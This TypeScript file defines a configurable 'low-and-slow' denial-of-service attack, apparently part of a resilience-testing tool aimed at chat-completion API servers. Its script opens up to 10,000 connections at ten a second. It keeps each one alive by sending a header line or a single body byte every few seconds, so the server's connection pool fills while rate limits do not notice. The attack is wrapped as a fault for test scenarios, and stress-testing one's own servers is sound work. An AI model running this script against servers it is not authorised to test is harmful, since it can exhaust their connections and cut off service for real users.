import { z } from 'zod';
import { attackOf } from './attack.ts';
import { attackFault } from './attacker/attack-fault.ts';
import { holdingOpening, openingShape } from './script/opening.ts';
import { requestHead } from './script/request-text.ts';

/**
 * A few connections a second, each harmless and held by a byte now and then: after a while they are the whole pool. No rate limit
 * sees it; deadlines and caps on connections do.
 *
 * ```
 * held   ╱‾‾‾‾ perSecond × the server's deadline, with one
 *       ╱      connections, without
 * ```
 */
export const attack = attackOf({
  kind: 'low-and-slow',
  summary: 'Opens 10 connections a second, holds each with a few bytes now and then.',
  defaultForMs: 60_000,
  needsModel: false,
  parameters: z.object({
    ...openingShape({ connections: 10_000, perSecond: 10, path: '/v1/chat/completions' }),
    intervalMs: z.number().min(10).max(600_000).default(5000).describe('between two bytes of a connection'),
    contentLength: z.int().min(2).max(1_000_000_000).default(65_536).describe('bytes announced'),
  }),
  script: (parameters, target) => {
    const { path, intervalMs: againMs, contentLength } = parameters;
    const head = requestHead(target, 'POST', path, [
      'Content-Type: application/json',
      `Content-Length: ${contentLength}`,
    ]);
    // Headers that never end and bodies that never do, in turn: each has a deadline of its own.
    return {
      opening: holdingOpening({ ...parameters, reopen: true }),
      read: 'all',
      answers: null,
      step: (connection, turn) => {
        const inHeader = connection % 2 === 0;
        if (turn === 0) return { write: inHeader ? head : `${head}\r\n`, againMs };
        if (inHeader) return { write: `X-${turn}: a\r\n`, againMs };
        return turn < contentLength ? { write: 'a', againMs } : {};
      },
    };
  },
});

/** The same in a scenario. */
export const fault = attackFault(attack);
